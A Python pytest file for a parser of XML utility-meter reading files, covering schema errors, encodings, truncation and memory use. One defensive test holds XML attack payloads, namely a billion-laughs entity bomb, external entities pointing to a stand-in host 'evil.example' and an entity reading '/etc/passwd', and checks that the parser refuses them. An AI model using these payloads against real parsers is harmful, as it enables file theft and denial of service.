"""What a file says, and where one that says nothing sensible is stopped."""

import resource
import tempfile
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest

from kvartal.months import YearMonth
from kvartal_integration import metrics_xml
from kvartal_integration.metrics_xml.parsing import read_blocks, read_head
from kvartal_integration.metrics_xml.records import Block, FileRefused

EXAMPLE = (Path(metrics_xml.__path__[0]) / "example.xml").read_bytes()


def blocks(content: bytes) -> list[Block]:
    file = BytesIO(content)
    read_head(file, name="metrics.xml", megabytes=200)
    return list(read_blocks(file, name="metrics.xml"))


def refusal(content: bytes) -> FileRefused:
    with pytest.raises(FileRefused) as refused:
        blocks(content)
    return refused.value


def test_the_head_of_the_example() -> None:
    head = read_head(BytesIO(EXAMPLE), name="metrics.xml", megabytes=200)

    assert (head.generated_at, head.sender, head.overwrites) == (
        "2026-11-24T02:00:00+03:00",
        "1C-UK",
        False,
    )


def test_the_blocks_of_the_example() -> None:
    house, account = blocks(EXAMPLE)

    assert (house.organization, house.building, house.account) == ("UK-77", "D-0042", None)
    [collective] = house.meters
    assert collective.house == {
        "installationPlace": "Подвал, ввод 1",
        "condition": "WORKING",
        "ratio": "1",
    }
    assert (account.premise, account.premise_number, account.account, account.size) == (
        "KV-15",
        "15",
        "7700415015",
        3,
    )
    water, light = account.meters
    assert (water.external_id, water.type, water.identifier, water.initial_values) == (
        "IPU-90015",
        "COLD_WATER",
        "ХВС-15-1",
        ("0",),
    )
    # Cleared by xsi:nil, and not there at all.
    assert water.fields["lastVerificationDate"] is None
    assert "brand" not in light.fields
    october, november = water.readings
    assert (october.billing_month, october.taken_on, october.values, october.channel) == (
        YearMonth(2026, 10),
        date(2026, 10, 22),
        ("214.317",),
        "RESIDENT_APP",
    )
    assert (november.line, light.readings[0].values) == (24, ("10452", "4310"))


@pytest.mark.parametrize(
    ("encoding", "declared"),
    [
        ("cp1251", "windows-1251"),
        ("utf-16", "UTF-16"),
        ("utf-8-sig", "UTF-8"),
        ("koi8-r", "KOI8-R"),
    ],
)
def test_other_encodings_are_read_as_they_are_declared(encoding: str, declared: str) -> None:
    text = EXAMPLE.decode().replace('encoding="UTF-8"', f'encoding="{declared}"')

    assert blocks(text.encode(encoding)) == blocks(EXAMPLE)


@pytest.mark.parametrize(
    ("written", "read"),
    [("219.002", "219.002"), ("+5", "5"), (".5", "0.5"), ("5.", "5"), ("00076", "00076")],
)
def test_numbers_are_read_as_the_schema_allows_them(written: str, read: str) -> None:
    _, account = blocks(EXAMPLE.replace(b't1="219.002"', f't1="{written}"'.encode()))

    assert account.meters[0].readings[1].values == (read,)


def test_texts_are_read_without_the_spaces_around_them() -> None:
    content = EXAMPLE.replace("ХВС-15-1".encode(), "  ХВС-15-1\n ".encode())
    content = content.replace(b'number="7700415015"', b'number=" 7700415015 "')

    _, account = blocks(content)

    assert (account.account, account.meters[0].identifier) == ("7700415015", "ХВС-15-1")


@pytest.mark.parametrize(
    ("before", "after", "line", "element", "detail"),
    [
        (b't1="219.002"', b't1="abc"', 24, "reading", "E104.ATTRIBUTE_VALUE"),
        (b't1="219.002"', b't1="1.23456"', 24, "reading", "E104.ATTRIBUTE_VALUE"),
        (b't1="219.002"', b't1="-1"', 24, "reading", "E104.ATTRIBUTE_VALUE"),
        (b' t1="219.002"', b"", 24, "reading", "E104.ATTRIBUTE_MISSING"),
        (b' t1="219.002"', b' t1="1" t9="2"', 24, "reading", "E104.ATTRIBUTE_UNKNOWN"),
        (b"<type>COLD_WATER</type><id", b"<id", 8, "identifier", "E104.ELEMENT_UNEXPECTED"),
        (b"<type>COLD_WATER", b"<type>STEAM", 8, "type", "E104.VALUE"),
        (b"2027-05-12</next", b"2027-05-40</next", 20, "nextVerificationDate", "E104.VALUE"),
        (b"<verificationInterval>6", b"<verificationInterval>99", 19, "verificationInterval", None),
        (b"<brand>", b"<brand>" + b"x" * 100, 17, "brand", "E104.TOO_LONG"),
        (b"urn:kvartal:metrics:1", b"urn:other:1", 3, "{urn:other:1}metrics", "E104.OTHER"),
        (b'externalId="D-0042"', b'externalId=""', 5, "object", None),
    ],
)
def test_what_does_not_follow_the_schema_stops_at_its_line(
    before: bytes, after: bytes, line: int, element: str, detail: str | None
) -> None:
    refused = refusal(EXAMPLE.replace(before, after))

    assert (refused.code, refused.line, refused.facts["element"]) == ("E104", line, element)
    assert refused.detail is not None
    assert refused.detail[0] == (detail or refused.detail[0])


def test_blocks_before_a_fault_have_been_read() -> None:
    found = read_blocks(BytesIO(EXAMPLE.replace(b't1="219.002"', b't1="abc"')), name="x")

    assert next(found).account is None
    with pytest.raises(FileRefused):
        next(found)


@pytest.mark.parametrize(
    ("fault", "code"), [(b"<place><oops/></place>", "E104"), (b"<place></plane>", "E103")]
)
def test_a_fault_late_in_a_file_is_known_by_its_line_and_no_block_comes_twice(
    fault: bytes, code: str
) -> None:
    start, end = EXAMPLE.index(b"<place"), EXAMPLE.index(b"</place>") + len(b"</place>")
    place = EXAMPLE[start:end] + b"\n"
    before = EXAMPLE[:start] + 500 * place
    file = BytesIO(before + fault + b"\n" + 500 * place + EXAMPLE[end:])
    assert len(before) > 2 * 65_536  # several portions have been read when it comes
    found: list[Block] = []

    with pytest.raises(FileRefused) as refused:
        found.extend(read_blocks(file, name="x"))

    assert (refused.value.code, refused.value.line) == (code, before.count(b"\n") + 1)
    assert len(found) == 501  # those of the house come first
    assert len({each.line for each in found}) == 501


@pytest.mark.parametrize(
    ("content", "line"),
    [
        (b"", 1),
        (b"PK\x03\x04\x00\x00", 1),
        (b"\xff\xfe\x00", 1),
        (EXAMPLE[:-300], 28),
        (EXAMPLE + b"<more/>", 36),
        (EXAMPLE.replace(b"<brand>", b"<brand>&"), 17),
        (EXAMPLE.replace(b"<brand>", b"<brand>&undeclared;"), 17),
        (EXAMPLE.replace(b"<brand>", b"<brand>\xff"), 17),
        (EXAMPLE.replace(b"UTF-8", b"no-such-encoding"), 1),
        (b'<metrics version="1.0">' + b"<a>" * 300, 1),
    ],
)
def test_what_is_no_xml_stops_at_its_place(content: bytes, line: int) -> None:
    refused = refusal(content)

    assert refused.code in {"E103", "E104"}
    assert refused.line == line
    if refused.code == "E103":
        assert refused.facts["path"] == "metrics.xml"


BILLION = b"".join(
    [b"<!DOCTYPE metrics [", b'<!ENTITY a "ha">']
    + [f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9)]
    + [b"]>"]
)


@pytest.mark.parametrize(
    "doctype",
    [
        BILLION,
        b"<!DOCTYPE metrics>",
        b'<!DOCTYPE metrics SYSTEM "http://evil.example/x.dtd">',
        b'<!DOCTYPE metrics [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE metrics [<!ENTITY % x SYSTEM "http://evil.example/">%x;]>',
        b"<!-- " + b"x" * 1_100_000 + b" -->",
    ],
)
def test_a_document_type_or_an_endless_prologue_is_refused(doctype: bytes) -> None:
    refused = refusal(EXAMPLE.replace(b"<metrics", doctype + b"<metrics", 1))

    assert (refused.code, refused.facts) == ("E106", {"n": 200})


@pytest.mark.parametrize("version", ["2.0", "", "1.0.1"])
def test_another_version_is_refused(version: str) -> None:
    refused = refusal(EXAMPLE.replace(b'version="1.0" gen', f'version="{version}" gen'.encode()))

    assert (refused.code, refused.facts) == ("E105", {"v": version})


def test_overwriting_is_asked_for() -> None:
    content = EXAMPLE.replace(b'readingsMode="append"', b'readingsMode="overwrite"')

    assert read_head(BytesIO(content), name="metrics.xml", megabytes=200).overwrites


def test_of_a_large_file_nothing_is_kept() -> None:
    start, end = EXAMPLE.index(b"<place"), EXAMPLE.index(b"</place>") + len(b"</place>")
    with tempfile.TemporaryFile() as file:
        file.write(EXAMPLE[:start])
        for _ in range(5_000):
            file.write(EXAMPLE[start:end])
        file.write(EXAMPLE[end:])
        file.seek(0)
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss

        found = sum(block.size for block in read_blocks(file, name="metrics.xml"))

    grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before
    assert found == 15_001
    assert grown < 4_000  # KiB, of a file of 5.7 MB
